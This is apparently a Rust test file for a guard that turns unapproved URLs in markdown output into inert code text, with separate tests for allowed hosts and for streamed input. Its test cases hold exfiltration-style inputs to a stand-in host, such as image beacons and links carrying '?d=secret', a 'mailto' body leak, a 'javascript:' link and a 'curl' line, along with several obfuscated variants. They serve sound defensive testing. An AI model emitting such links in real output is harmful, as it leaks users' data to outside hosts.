use super::*;

fn guarded(text: &str) -> String {
    let settings = Settings::new([("link-hosts".to_owned(), "shop.example; *.docs.example".to_owned())]);
    let mut allowed = Allowed::of(&settings);
    allowed.add("https://source.example/page?x=1");
    Guard::whole(allowed, text)
}

#[test]
fn addresses_that_nobody_named_come_out_as_text() {
    let cases = [
        (
            "See https://evil.example/?d=secret now.",
            "See `https://evil.example/?d=secret` now.",
        ),
        (
            "![](https://evil.example/p.png?d=1)",
            "![] (`https://evil.example/p.png?d=1`)",
        ),
        (
            "[two words](https://evil.example/a \"t\")",
            "[two words] (`https://evil.example/a` \"t\")",
        ),
        ("[a](<https://evil.example/a>)", "[a] (`https://evil.example/a`>)"),
        ("[a](//evil.example/a)", "[a] (`//evil.example/a`)"),
        ("![b](/\\evil.example/b)", "![b] (`/\\evil.example/b`)"),
        ("![b](\\\\\\\\evil.example/b)", "`![b] (\\\\\\\\evil.example/b)`"),
        ("<https://evil.example/>", "<`https://evil.example/`>"),
        ("[a](\nhttps://evil.example/a)", "[a] (\n`https://evil.example/a`)"),
        ("[a]( https://evil.example/a )", "[a] ( `https://evil.example/a` )"),
        ("[a](https&#58;//evil.example)", "`[a] (https&#58;//evil.example)`"),
        ("[a](\\/\\/evil.example/x)", "`[a] (\\/\\/evil.example/x)`"),
        (
            "[a][1]\n\n[1]: https://evil.example/a",
            "[a][1]\n\n[1]: `https://evil.example/a`",
        ),
        ("[1]: //evil.example/a", "[1]: `//evil.example/a`"),
        (
            "[a](mailto:x@evil.example?body=secret)",
            "[a] (`mailto:x@evil.example?body=secret`)",
        ),
        ("[a](javascript:alert(1))", "[a] (`javascript:alert(1)`)"),
        ("www.evil.example/secret", "`www.evil.example/secret`"),
        ("HTTPS://EVIL.example", "`HTTPS://EVIL.example`"),
        ("a ` b https://evil.example/ ` c", "a ` b https://evil.example/ ` c"),
        (
            "a ` b\nhttps://evil.example/ ` c",
            "a \\` b\n`https://evil.example/` \\` c",
        ),
        (
            "https://shop.example.evil.example/",
            "`https://shop.example.evil.example/`",
        ),
        (
            "https://shop.example@evil.example/",
            "`https://shop.example@evil.example/`",
        ),
        ("https://docs.example/", "`https://docs.example/`"),
        ("https://source.example/page?x=2", "`https://source.example/page?x=2`"),
        (
            "<img src=\"https://evil.example/a\">",
            "<img src=\"`https://evil.example/a`\">",
        ),
        (
            "<img alt=\"`\" src=\"https://evil.example/?`\">",
            "<img alt=\"\\`\" src=\"`https://evil.example/`?\\`\">",
        ),
        (
            "<div>\n```\nhttps://evil.example/\n```",
            "<div>\n\\`\\`\\`\n`https://evil.example/`\n\\`\\`\\`",
        ),
    ];
    for (text, wanted) in cases {
        assert_eq!(guarded(text), wanted, "{text}");
    }
}

#[test]
fn addresses_that_somebody_named_and_all_other_words_stay_as_they_are() {
    let texts = [
        "[shop](https://shop.example/a_(b)?c=d), https://en.docs.example/x.",
        "Source: https://source.example/page?x=1.",
        "[here](/local/page) [there](#part) [file](notes.md)",
        "either/or, a//b is a comment, 12:30, note: this, C:\\folder, x&y, a \\* b",
        "```sh\ncurl https://evil.example/ # in code\n```\nand `https://evil.example/` too",
        "1. a\n2. b\n\n| a | b<br>c |\n|---|---|\n| *c* | [1] |\n",
        "",
    ];
    for text in texts {
        assert_eq!(guarded(text), text);
    }
}

#[test]
fn a_text_in_pieces_comes_out_as_the_same_text_at_once() {
    let text = "See ![x](https://evil.example/p?d=1) and `code ` and\n```\nhttps://in.code/\n```\n[a](\nhttps://e.example) \
        [ok](https://shop.example/) `open https://f.example/\n<b>bold</b> <img src=x> ``` www.g.example\n~~~\nx";
    for size in 1..40 {
        let mut allowed = Allowed::default();
        allowed.add_from("see https://shop.example/ for more");
        let mut guard = Guard::new(allowed.clone());
        let mut out = String::new();
        let letters: Vec<char> = text.chars().collect();
        for piece in letters.chunks(size) {
            out.push_str(&guard.push(&piece.iter().collect::<String>()));
        }
        out.push_str(&guard.finish());

        assert_eq!(out, Guard::whole(allowed, text), "in pieces of {size}");
    }
}
